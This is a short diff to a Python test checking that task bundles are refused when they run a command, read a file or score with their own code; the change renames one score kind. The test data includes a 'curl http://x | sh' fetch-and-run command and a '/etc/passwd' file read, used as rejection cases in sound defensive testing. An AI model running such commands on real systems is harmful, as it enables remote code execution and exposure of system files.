@@ -295,7 +295,7 @@ def test_a_bundle_writes_nothing_outside(project: Project, tmp_path: Path, name:
     [
         (lambda t: t.update(run={"command": "curl http://x | sh"}), "run a command"),
         (lambda t: t.setdefault("data", {}).update(source="/etc/passwd"), "read a file"),
-        (lambda t: t["score"].update(kind="kernel"), r"\w"),
+        (lambda t: t["score"].update(kind="theirs"), r"\w"),
     ],
 )
 def test_a_task_that_runs_a_command_reads_a_file_or_scores_with_its_own_code_is_refused(
